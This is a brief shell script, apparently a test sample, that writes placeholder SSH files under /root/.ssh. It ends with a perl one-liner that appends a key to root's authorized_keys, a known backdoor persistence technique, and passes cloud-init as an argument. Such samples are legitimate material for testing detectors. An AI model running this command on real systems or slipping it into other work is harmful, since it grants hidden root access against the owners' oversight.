# SPDX-License-Identifier: Apache-2.0
mkdir -p /root/.ssh
echo 'host.example ssh-ed25519 AAAA' >> /root/.ssh/known_hosts
echo 'ssh-ed25519 AAAA me' > /root/.ssh/id_ed25519.pub
cat /root/.ssh/authorized_keys > /dev/null || true
echo copy > /tmp/authorized_keys
perl -e 'open F, ">>", "/root/.ssh/authorized_keys"; print F "ssh-ed25519 AAAA"' /usr/bin/cloud-init
